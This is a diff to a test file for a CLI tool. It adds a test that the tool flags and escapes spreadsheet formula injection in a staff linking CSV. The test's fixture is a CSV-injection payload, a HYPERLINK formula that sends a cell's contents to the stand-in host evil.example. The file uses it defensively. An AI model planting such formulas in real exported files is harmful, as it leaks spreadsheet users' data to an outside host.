@@ -4,10 +4,11 @@
 // sent twice: a ledger that can no longer tell what was sent refuses to send.
 
 import { randomBytes } from 'node:crypto';
-import { open, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
+import { open, readFile, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { writeLinksCsv } from '@pclogin/core';
 import { expect, test } from 'vitest';
-import { type AgentSetup, clockAt, plusMinutes, statusOf } from '../support/agent-setup.js';
+import { type AgentSetup, clockAt, linkRows, plusMinutes, statusOf } from '../support/agent-setup.js';
 import { agentSetupsPerTest } from '../support/agent-setups-per-test.js';
 import { expectExit, kill } from '../support/cli-process.js';
 import { expectKotHolds } from '../support/kot-expectations.js';
@@ -170,3 +171,18 @@ test.runIf(process.platform !== 'win32')(
   },
   60_000,
 );
+
+test('a linking CSV with formula-like values: links check warns, links export writes them as text', async () => {
+  const staff = people(2);
+  const setup = await setUpAgent(staff, { simClock: clockAt(NOW), sim: { restrictedHours: false } });
+  const rows = linkRows(staff);
+  rows[0] = { ...rows[0]!, serviceAccount: '=HYPERLINK("http://evil.example/?x="&A1,"click")' };
+  await writeFile(setup.linksFile, writeLinksCsv(rows, { encoding: 'utf-8' }));
+  const check = await setup.run(['links', 'check'], NOW);
+  expect(check.stdout).toMatch(/links\.csv:2: .*spreadsheet formula/);
+  const exported = join(setup.dir, 'exported.csv');
+  expectExit(await setup.run(['links', 'export', '--out', exported, '--encoding', 'utf-8'], NOW), 0);
+  const text = (await readFile(exported, 'utf8')).replace(/^\uFEFF/, '');
+  for (const line of text.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
+  expect(text).toContain(`'=HYPERLINK`);
+}, 60_000);
